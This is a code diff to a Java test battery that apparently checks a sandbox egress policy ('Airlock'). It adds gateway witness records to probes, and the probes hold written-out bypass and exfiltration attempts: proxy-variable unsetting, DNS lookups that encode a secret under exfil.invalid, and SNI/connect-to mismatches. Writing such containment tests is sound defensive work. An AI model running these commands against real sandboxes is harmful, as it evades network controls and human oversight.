@@ -252,7 +252,8 @@ public final class Battery {
                 http("proxy-bypass", "proxy-bypass:" + t + ":no-proxy", t + " with NO_PROXY=*", "http://" + url(t) + "/",
                         "--noproxy '*'");
                 add("proxy-bypass", "proxy-bypass:" + t + ":unset", t + " with the proxy variables unset", Expect.BLOCKED,
-                        "blocked", "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; http http://" + url(t) + "/", Optional.empty());
+                        "blocked", "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; http http://" + url(t) + "/", Optional.empty(),
+                        Probe.Gate.of(t, 80));
             }
         }
         LocalTarget.Tcp l = c.hostListener();
@@ -276,16 +277,16 @@ public final class Battery {
         add("dns-exfiltration", "dns-exfiltration:long-label", label.length() + "-character label under exfil.invalid", Expect.BLOCKED,
                 "no answer from Airlock's DNS for a name the policy does not allow", "dns " + c.hostAddress() + " " + label
                         + ".exfil.invalid 1",
-                Optional.empty());
+                Optional.empty(), Probe.Gate.of(label + ".exfil.invalid", 53));
         add("dns-exfiltration", "dns-exfiltration:unknown-name", "an unknown name (A)", Expect.BLOCKED, "no answer",
-                "dns " + c.hostAddress() + " not-allowed.exfil.invalid 1", Optional.empty());
+                "dns " + c.hostAddress() + " not-allowed.exfil.invalid 1", Optional.empty(), Probe.Gate.of("not-allowed.exfil.invalid", 53));
         String txt = firstAllowedName(-1).orElse("example.com");
         add("dns-exfiltration", "dns-exfiltration:txt", "TXT " + txt, Expect.BLOCKED, "no answer: Airlock answers only A and AAAA",
-                "dns " + c.hostAddress() + " " + txt + " 16", Optional.empty());
+                "dns " + c.hostAddress() + " " + txt + " 16", Optional.empty(), Probe.Gate.of(txt, 53));
         add("dns-exfiltration", "dns-exfiltration:getent", "getent hosts <secret>.exfil.invalid", Expect.BLOCKED, "no address",
                 "need getent; if out=$(getent hosts c2VjcmV0.exfil.invalid 2>&1); then echo \"@result reached $out\"; "
                         + "else echo '@result blocked getent found no address'; fi",
-                Optional.empty());
+                Optional.empty(), Probe.Gate.of("c2VjcmV0.exfil.invalid", 53));
     }
 
     private void ipLiterals() {
@@ -312,10 +313,12 @@ public final class Battery {
         String sni = allowed.orElse("allowed.invalid");
         add("sni-mismatch", "sni-mismatch:allowed-sni-to-denied-address", "TLS with SNI " + sni + " to " + denied + ":443", Expect.BLOCKED,
                 "no TLS handshake with the denied address",
-                "http https://" + sni + "/ -k --noproxy '*' --resolve " + sni + ":443:" + denied, Optional.empty());
+                "http https://" + sni + "/ -k --noproxy '*' --resolve " + sni + ":443:" + denied, Optional.empty(),
+                new Probe.Gate(Set.of(sni, denied), 443));
         allowed.ifPresent(a -> add("sni-mismatch", "sni-mismatch:denied-sni-to-allowed-name", "TLS with SNI denied.invalid to " + a + ":443",
                 Expect.BLOCKED, "no TLS handshake: the SNI differs from the name the connection was resolved for",
-                "http https://denied.invalid/ -k --noproxy '*' --connect-to denied.invalid:443:" + a + ":443", Optional.empty()));
+                "http https://denied.invalid/ -k --noproxy '*' --connect-to denied.invalid:443:" + a + ":443", Optional.empty(),
+                new Probe.Gate(Set.of("denied.invalid", a), 443)));
     }
 
     // ---- fronting (issue 15 §1): allowed bytes naming a production host ------------------------------
@@ -484,7 +487,7 @@ public final class Battery {
         add("udp-icmp-ipv6", "icmp:host", "ping " + c.hostAddress(), Expect.BLOCKED, "no echo reply",
                 "need ping; if out=$(ping -n -c 1 -W 2 " + c.hostAddress() + " 2>&1); then echo \"@result reached $(echo $out | head -c 160)\"; "
                         + "else echo \"@result blocked $(echo $out | tail -c 160)\"; fi",
-                Optional.empty());
+                Optional.of(new LocalTarget.Echo(c.hostAddress())));
         add("udp-icmp-ipv6", "icmp:1.1.1.1", "ping 1.1.1.1", Expect.BLOCKED, "no echo reply",
                 "need ping; if out=$(ping -n -c 1 -W 2 1.1.1.1 2>&1); then echo \"@result reached $(echo $out | head -c 160)\"; "
                         + "else echo \"@result blocked $(echo $out | tail -c 160)\"; fi",
@@ -493,7 +496,7 @@ public final class Battery {
         add("udp-icmp-ipv6", "ipv6:addresses", "IPv6 addresses in the sandbox", Expect.BLOCKED, "no global or ULA IPv6 address",
                 "need ip; a=$(ip -6 -o addr show scope global 2>&1); if [ -n \"$a\" ]; then echo \"@result reached $a\"; "
                         + "else echo '@result blocked no global IPv6 address'; fi",
-                Optional.empty());
+                Optional.empty(), new Probe.Inside());
     }
 
     private void files() {
@@ -586,7 +589,7 @@ public final class Battery {
 
     private void tcp(String category, String id, String target, String host, int port, String kind, Optional<? extends LocalTarget> control) {
         add(category, id, target, Expect.BLOCKED, "no byte back from the target", "tcp " + host + " " + port + " " + kind,
-                control.map(LocalTarget.class::cast));
+                control.map(LocalTarget.class::cast), Probe.Gate.of(host, port));
     }
 
     private void http(String category, String id, String target, String url, String curlOptions) {
@@ -594,7 +597,26 @@ public final class Battery {
     }
 
     private void http(String category, String id, String target, String url, String curlOptions, Optional<LocalTarget> control) {
-        add(category, id, target, Expect.BLOCKED, "no HTTP answer from the target", "http " + quote(url) + " " + curlOptions, control);
+        add(category, id, target, Expect.BLOCKED, "no HTTP answer from the target", "http " + quote(url) + " " + curlOptions, control,
+                gateOf(url));
+    }
+
+    /** The name and port the gateway records for a request to {@code url} (the default port of its scheme). */
+    static Probe.Gate gateOf(String url) {
+        java.net.URI u = java.net.URI.create(url);
+        if (u.getHost() == null) {
+            // Not a server-based authority to java.net.URI (an underscore in a name, say): read it as written.
+            String authority = u.getRawAuthority();
+            return authority.matches(".*:[0-9]+") ? gateOfAuthority(authority) : Probe.Gate.of(authority, "https".equals(u.getScheme()) ? 443 : 80);
+        }
+        int port = u.getPort() > 0 ? u.getPort() : "https".equals(u.getScheme()) ? 443 : 80;
+        return Probe.Gate.of(u.getHost(), port);
+    }
+
+    /** The name and port the gateway records for a {@code host:port} authority. */
+    static Probe.Gate gateOfAuthority(String authority) {
+        int colon = authority.lastIndexOf(':');
+        return Probe.Gate.of(authority.substring(0, colon), Integer.parseInt(authority.substring(colon + 1)));
     }
 
     /** A raw request to the explicit proxy, so odd address forms reach it exactly as written (curl would normalise them). */
@@ -602,14 +624,19 @@ public final class Battery {
             Optional<LocalTarget.Tcp> control) {
         add(category, id, target, Expect.BLOCKED, "Airlock's proxy denies it; the target never answers",
                 "proxied " + c.hostAddress() + " " + c.proxyPort() + " " + method + " " + quote(requestTarget) + " " + quote(authority),
-                control.map(LocalTarget.class::cast));
+                control.map(LocalTarget.class::cast), gateOfAuthority(authority));
     }
 
     private void add(String category, String id, String target, Expect expect, String expected, String body, Optional<LocalTarget> control) {
+        add(category, id, target, expect, expected, body, control, new Probe.NoWitness());
+    }
+
+    private void add(String category, String id, String target, Expect expect, String expected, String body, Optional<LocalTarget> control,
+            Probe.Witness witness) {
         if (!CATEGORIES.contains(category)) {
             throw new IllegalArgumentException("unknown category " + category);
         }
-        probes.putIfAbsent(id, new Probe(id, category, target, expect, expected, ". /workspace/lib.sh\n" + body + "\n", control));
+        probes.putIfAbsent(id, new Probe(id, category, target, expect, expected, ". /workspace/lib.sh\n" + body + "\n", control, witness));
     }
 
     /** Concrete names for a rule: itself when exact; for a wildcard, the known names under it, or one made-up name. */
